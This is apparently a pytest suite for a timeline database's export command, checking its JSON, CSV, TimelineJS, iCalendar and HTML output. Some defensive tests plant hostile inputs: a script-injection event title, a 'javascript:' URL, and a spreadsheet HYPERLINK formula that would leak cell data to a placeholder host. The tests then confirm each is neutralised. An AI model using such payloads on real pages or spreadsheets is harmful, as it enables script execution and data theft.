"""`timeline export`: JSON, GDELT-style CSV, TimelineJS3, iCalendar and the HTML timeline.

The TimelineJS and iCalendar files are parsed back (json, the icalendar package) and must
carry every exported event; the HTML page is opened in headless Chromium, which must draw
the Kim–Xi events from the page's own script. The data is `build_reporting_data` (see
tests/test_views.py) unless a test says otherwise.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest

from tests.clitools import run
from tests.conftest import allow_users_sql
from tests.test_views import build_reporting_data
from timeline import db
from timeline.models import Actor, Event, Participant

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="Chromium is not installed (apt-get install chromium)"
)

# Occurred and not rejected, oldest first, undated last (8 is planned, 9 rejected).
DEFAULT_IDS = [13, 12, 11, 1, 2, 3, 4, 6, 5, 7, 10]
UNDATED = {10}


@pytest.fixture
def export_url(migrated_url: str) -> str:
    build_reporting_data(migrated_url)
    return migrated_url


def export(url: str, *args: str):
    result = run("--db", url, "export", *args)
    assert result.exit_code == 0, result.stderr
    return result


def event_ids(url: str, *args: str) -> list[int]:
    result = run("--db", url, "events", *args, "--format", "json")
    assert result.exit_code == 0, result.stderr
    return [row["id"] for row in json.loads(result.stdout)]


# --- JSON -----------------------------------------------------------------------------------


def test_json_export_is_every_event_in_full(export_url: str) -> None:
    records = json.loads(export(export_url, "--format", "json").stdout)
    assert [r["id"] for r in records] == DEFAULT_IDS
    by_id = {r["id"]: r for r in records}
    five = by_id[5]
    assert (five["type"], five["start"], five["end"], five["precision"], five["date"]) == (
        "meeting", "2019-06-20", "2019-06-20", "day", "2019-06-20",
    )  # fmt: skip
    assert [(p["name"], p["role"], p["country"]) for p in five["participants"]] == [
        ("Xi Jinping", "guest", "CHN"),
        ("Kim Jong Un", "host", "PRK"),
    ]
    assert [(e["source"], e["url"], e["sentence"]) for e in five["evidence"]] == [
        ("Reuters", "https://example.org/reuters-2", "Xi arrived in Pyongyang to meet Kim."),
        ("Xinhua", "https://example.org/xinhua-2", "Xi Jinping met Kim Jong Un."),
        ("Xinhua", "https://example.org/xinhua-2", "The two leaders held talks."),
    ]
    assert five["meeting"] is None  # made with the ORM without a meeting detail
    assert by_id[7]["date"] == "late 2019"
    assert by_id[12]["sanction"] == {
        "authority": "OFAC designation",
        "measures": "Asset freeze",
        "lifted_on": "2018-06-01",
        "notes": None,
    }
    assert by_id[10]["start"] is None


@pytest.mark.parametrize(
    "filters",
    [
        (),
        ("--actor", "Kim Jong Un", "--actor", "Xi Jinping"),
        ("--actor", "kim jong-un", "--since", "2019"),
        ("--type", "meeting", "--status", "all"),
        ("--since", "2018-06", "--until", "2019-06", "--strict"),
        ("--country", "North Korea", "--type", "sanction"),
        ("--article", "4"),
        ("--review", "rejected"),
    ],
)
def test_export_selects_what_events_lists(export_url: str, filters: tuple[str, ...]) -> None:
    records = json.loads(export(export_url, *filters, "--format", "json").stdout)
    assert [r["id"] for r in records] == event_ids(export_url, *filters)


# --- CSV in the GDELT/Phoenix shape ---------------------------------------------------------

GDELT_HEADER = (
    "event_id,date,date_end,precision,actor1,actor1_country,actor1_role,actor2,"
    "actor2_country,actor2_role,cameo_code,cameo_root,event_type,status,location,"
    "num_sources,source_url\n"
)


def test_csv_export_has_one_row_per_dyad(export_url: str) -> None:
    result = export(export_url, "-a", "Kim Jong Un", "-a", "Xi Jinping", "--format", "csv")
    assert result.stdout == GDELT_HEADER + (
        # the guest makes the visit (CAMEO 042): actor1; one article plus the reference URL
        "1,20180326,20180326,day,Kim Jong Un,PRK,guest,Xi Jinping,CHN,host,042,04,meeting,"
        "occurred,Beijing,2,https://example.org/kim-beijing\n"
        "2,20180507,20180508,range,Kim Jong Un,PRK,guest,Xi Jinping,CHN,host,042,04,meeting,"
        "occurred,Dalian,0,\n"
        "5,20190620,20190620,day,Xi Jinping,CHN,guest,Kim Jong Un,PRK,host,042,04,meeting,"
        "occurred,Pyongyang,2,https://example.org/reuters-2\n"
        "10,,,unknown,Xi Jinping,CHN,sender,Kim Jong Un,PRK,recipient,,,message,occurred,,0,\n"
    )
    sanctions = export(export_url, "--type", "sanction", "--format", "csv").stdout
    assert sanctions.splitlines()[1:] == [
        "13,20090612,20090612,day,United Nations Security Council,,imposer,North Korea,PRK,"
        "target,,,sanction,occurred,,0,",
        "12,20160706,20160706,day,United States,USA,imposer,Kim Jong Un,PRK,target,,,"
        "sanction,occurred,,0,",
        "11,20171222,20171222,day,United Nations Security Council,,imposer,North Korea,PRK,"
        "target,,,sanction,occurred,,0,",
    ]


# --- TimelineJS3 ----------------------------------------------------------------------------


def test_timelinejs_export_parses_back_with_every_dated_event(export_url: str) -> None:
    result = export(export_url, "--format", "timelinejs", "--status", "all")
    document = json.loads(result.stdout)
    assert "1 undated event(s) left out" in result.stderr
    assert document["title"]["text"]["headline"] == "Timeline"
    slides = document["events"]
    exported = event_ids(export_url, "--status", "all")
    assert [s["unique_id"] for s in slides] == [f"event-{i}" for i in exported if i not in UNDATED]
    for slide in slides:  # the TimelineJS3 slide shape
        assert set(slide["start_date"]) <= {"year", "month", "day"}
        assert all(isinstance(v, int) for v in slide["start_date"].values())
        assert "year" in slide["start_date"]
        assert isinstance(slide["text"]["headline"], str) and slide["text"]["headline"]
        assert isinstance(slide["text"]["text"], str)
        assert isinstance(slide["group"], str)
    by_id = {int(s["unique_id"].split("-")[1]): s for s in slides}
    assert by_id[1]["start_date"] == {"year": 2018, "month": 3, "day": 26}
    assert "end_date" not in by_id[1]
    assert by_id[2]["end_date"] == {"year": 2018, "month": 5, "day": 8}
    assert by_id[7]["start_date"] == {"year": 2019, "month": 9, "day": 1}
    assert by_id[7]["end_date"] == {"year": 2019, "month": 12, "day": 31}
    assert by_id[7]["display_date"] == "late 2019"
    assert by_id[8]["start_date"] == {"year": 2020}  # known to the year only
    assert "end_date" not in by_id[8]
    assert by_id[6]["text"]["headline"] == "Call: Donald Trump, Xi Jinping"
    assert 'href="https://example.org/reuters-2"' in by_id[5]["text"]["text"]
    assert "Xi arrived in Pyongyang to meet Kim." in by_id[5]["text"]["text"]


# --- iCalendar ------------------------------------------------------------------------------


def test_ics_export_parses_back_with_all_day_ranges(export_url: str, tmp_path: Path) -> None:
    from icalendar import Calendar

    target = tmp_path / "events.ics"
    result = export(export_url, "--status", "all", "-o", str(target))  # format from suffix
    assert "1 undated event(s) left out" in result.stderr
    raw = target.read_bytes()
    assert raw.startswith(b"BEGIN:VCALENDAR\r\n")
    calendar = Calendar.from_ical(raw)
    items = calendar.walk("VEVENT")
    exported = event_ids(export_url, "--status", "all")
    assert [str(e["UID"]) for e in items] == [
        f"timeline-event-{i}" for i in exported if i not in UNDATED
    ]
    by_id = {int(str(e["X-TIMELINE-ID"])): e for e in items}

    def span(event_id: int) -> tuple[date, date]:
        item = by_id[event_id]
        return item.decoded("DTSTART"), item.decoded("DTEND")

    # All-day values (dates, not datetimes); DTEND is the day after the range ends.
    assert span(1) == (date(2018, 3, 26), date(2018, 3, 27))
    assert span(2) == (date(2018, 5, 7), date(2018, 5, 9))
    assert span(7) == (date(2019, 9, 1), date(2020, 1, 1))
    assert span(8) == (date(2020, 1, 1), date(2021, 1, 1))
    assert not any(hasattr(v, "hour") for i in by_id for v in span(i))
    assert str(by_id[1]["SUMMARY"]) == "Kim Jong Un visits Beijing"
    assert str(by_id[1]["STATUS"]) == "CONFIRMED"
    assert str(by_id[8]["STATUS"]) == "TENTATIVE"
    assert str(by_id[7]["X-TIMELINE-PRECISION"]) == "year_part"
    assert str(by_id[1]["URL"]) == "https://example.org/kim-beijing"
    assert "The two leaders held talks." in str(by_id[5]["DESCRIPTION"])
    assert str(calendar["X-WR-CALNAME"]) == "Timeline"


# --- where output goes ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--format", "ics"), "--format ics writes a file: give -o FILE"),
        (("--format", "html"), "--format html writes a file: give -o FILE"),
        ((), "give --format"),
        (("-o", "events.txt"), "give --format"),
    ],
)
def test_file_formats_need_a_file(export_url: str, args: tuple[str, ...], message: str) -> None:
    result = run("--db", export_url, "export", *args)
    assert result.exit_code == 2
    assert message in result.stderr
    assert result.stderr.count("\n") == 1


@pytest.fixture
def sqlite_export_db(tmp_path: Path) -> tuple[str, Path]:
    path = tmp_path / "timeline.db"
    url = f"sqlite:///{path}"
    db.upgrade(url)
    return url, path


def test_export_never_overwrites_the_database(sqlite_export_db: tuple[str, Path]) -> None:
    """`export -o timeline.db` once replaced the live database with HTML, exit 0."""
    url, path = sqlite_export_db
    before = path.read_bytes()
    for target in (path, Path(f"{path}-wal"), path.parent / "." / path.name):
        result = run("--db", url, "export", "--format", "html", "-o", str(target), "--force")
        assert result.exit_code == 1, result.stderr
        assert "refusing to overwrite the database's own file" in result.stderr
        assert result.stderr.count("\n") == 1
    assert path.read_bytes() == before
    assert db.current_revision(url) == db.head_revision()


def test_an_existing_file_is_replaced_only_with_force(export_url: str, tmp_path: Path) -> None:
    target = tmp_path / "events.json"
    target.write_text("keep me", encoding="utf-8")
    target.chmod(0o640)
    result = run("--db", export_url, "export", "--format", "json", "-o", str(target))
    assert result.exit_code == 1
    assert "file exists; give --force to replace it" in result.stderr
    assert target.read_text(encoding="utf-8") == "keep me"
    result = run("--db", export_url, "export", "--format", "json", "-o", str(target), "--force")
    assert result.exit_code == 0, result.stderr
    assert isinstance(json.loads(target.read_text(encoding="utf-8")), list)
    assert target.stat().st_mode & 0o777 == 0o640
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]  # none left


def test_a_full_device_is_a_write_error_not_bad_input(export_url: str) -> None:
    result = run("--db", export_url, "export", "--format", "json", "-o", "/dev/full")
    assert result.exit_code == 1, result.stderr
    assert "/dev/full: cannot write: No space left on device" in result.stderr
    assert result.stderr.count("\n") == 1


def test_unknown_actor_is_one_line(export_url: str) -> None:
    result = run("--db", export_url, "export", "-a", "Nobody Atall", "--format", "json")
    assert result.exit_code == 3
    assert result.stderr.count("\n") == 1


def test_json_and_csv_may_go_to_a_file(export_url: str, tmp_path: Path) -> None:
    for name in ("events.json", "events.csv"):
        target = tmp_path / name
        result = export(export_url, "-a", "Xi Jinping", "-o", str(target))
        assert result.stdout == ""
        assert f"written to {target}" in result.stderr
    assert [r["id"] for r in json.loads((tmp_path / "events.json").read_text())] == [1, 2, 6, 5, 10]
    assert (tmp_path / "events.csv").read_text().startswith(GDELT_HEADER)


# --- HTML -----------------------------------------------------------------------------------


def test_html_page_is_self_contained(export_url: str, tmp_path: Path) -> None:
    target = tmp_path / "timeline.html"
    export(export_url, "-o", str(target), "--title", "Test timeline")
    page = target.read_text(encoding="utf-8")
    assert "default-src 'none'" in page  # the browser itself refuses any fetch
    assert not re.search(r"<(script|img|iframe|audio|video|source)[^>]*\ssrc=", page)
    assert re.findall(r"<link[^>]*>", page) == ['<link rel="icon" href="data:,">']
    assert "@import" not in page and "url(" not in page
    assert "<title>Test timeline</title>" in page


def dump_dom(page: Path, tmp_path: Path) -> str:
    assert CHROMIUM is not None
    result = subprocess.run(
        [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'chromium-profile'}",
            "--dump-dom",
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return result.stdout


@needs_chromium
def test_chromium_draws_the_kim_xi_events(seeded_url: str, tmp_path: Path) -> None:
    page = tmp_path / "kim-xi.html"
    export(seeded_url, "-a", "Kim Jong Un", "-a", "Xi Jinping", "-o", str(page))
    expected = json.loads(
        run(
            "--db", seeded_url, "events", "-a", "Kim Jong Un", "-a", "Xi Jinping", "-f", "json"
        ).stdout
    )
    dated = [row for row in expected if row["start"] is not None]
    assert len(dated) >= 7

    dom = dump_dom(page, tmp_path)
    # Drawn by the page's script: none of these elements is in the file itself.
    assert 'data-ready="yes"' in dom
    assert f'data-rendered="{len(dated)}"' in dom
    drawn = [int(i) for i in re.findall(r'<g class="event [a-z]+" data-event="(\d+)"', dom)]
    assert drawn == [row["id"] for row in dated]
    lanes = re.findall(r'<text[^>]*class="lane-label[^"]*"[^>]*>([^<]+)</text>', dom)
    assert lanes[:2] == ["Kim Jong Un", "Xi Jinping"]  # the two with the most events
    for row in dated:
        block = re.search(rf'<g class="event [a-z]+" data-event="{row["id"]}".*?</g>', dom, re.S)
        assert block is not None
        marks = re.findall(r"<(circle|rect) [^>]*class=\"mark", block.group(0))
        # one mark in each participant's lane; the guests of a big summit share "N others"
        own = {name for name in row["participants"] if name in lanes}
        shared = any(name not in lanes for name in row["participants"])
        assert len(marks) == len(own) + shared
        assert {"Kim Jong Un", "Xi Jinping"} <= own
        assert f'href="#event-{row["id"]}"' in dom
        entry = re.search(rf'<article id="event-{row["id"]}">(.*?)</article>', dom, re.S)
        assert entry is not None and row["date"] in entry.group(1)
    # the seed events link to their reference sources
    assert re.search(r'<a href="https?://[^"]+" rel="noopener noreferrer">reference</a>', dom)
    assert "<svg" not in page.read_text(encoding="utf-8").split('id="timeline-data"')[0]


@needs_chromium
def test_chromium_shows_ranges_as_bars_and_data_as_text(migrated_url: str, tmp_path: Path) -> None:
    build_reporting_data(migrated_url)
    engine = db.make_engine(migrated_url)
    try:
        with db.session_scope(engine) as session:
            kim = session.query(Actor).filter_by(name="Kim Jong Un").one()
            hostile = '</script><script>document.body.dataset.pwned="yes"</script><b>x</b>'
            session.add(
                Event(
                    type="meeting",
                    title=hostile,
                    start_date=date(2019, 7, 1),
                    end_date=date(2019, 7, 31),
                    precision="month",
                    origin="manual",
                    source_url="javascript:alert(1)",
                    participants=[Participant(actor_id=kim.id, role="participant")],
                )
            )
    finally:
        engine.dispose()
    page = tmp_path / "timeline.html"
    export(migrated_url, "-a", "Kim Jong Un", "-o", str(page))
    source = page.read_text(encoding="utf-8")
    assert source.count("</script>") == 2  # the data block and the script, nothing injected
    dom = dump_dom(page, tmp_path)
    assert 'data-ready="yes"' in dom
    assert "data-pwned" not in dom  # the injected script never ran
    assert "javascript:alert" not in re.sub(r"<script.*?</script>", "", dom, flags=re.S)
    # the hostile title is shown as text
    assert "&lt;/script&gt;&lt;script&gt;document.body.dataset.pwned" in dom
    # a month-long event is a bar (rect), a day is a dot (circle)
    july = re.search(r'<g class="event occurred" data-event="14".*?</g>', dom, re.S)
    assert july is not None and "<rect" in july.group(0) and "<circle" not in july.group(0)
    one_day = re.search(r'<g class="event occurred" data-event="1".*?</g>', dom, re.S)
    assert one_day is not None and one_day.group(0).count("<circle") == 2


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(export_url: str) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    url = allow_users_sql(export_url)
    result = run(
        "--db",
        url,
        "sql",
        f"SELECT '{evil.replace(chr(39), chr(39) * 2)}' AS a, -3 AS b,"
        " '+1' AS c, '@SUM(1)' AS d, 'plain' AS e",
        "--format",
        "csv",
    )
    assert result.exit_code == 0, result.stderr
    import csv
    import io

    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row == {"a": "'" + evil, "b": "-3", "c": "'+1", "d": "'@SUM(1)", "e": "plain"}
    raw = run("--db", url, "--raw-csv", "sql", "SELECT '=1+1' AS a", "--format", "csv")
    assert raw.stdout.splitlines() == ["a", "=1+1"]
    again = run("--db", url, "sql", "SELECT '=1+1' AS a", "--format", "csv")
    assert again.stdout.splitlines() == ["a", "'=1+1"]
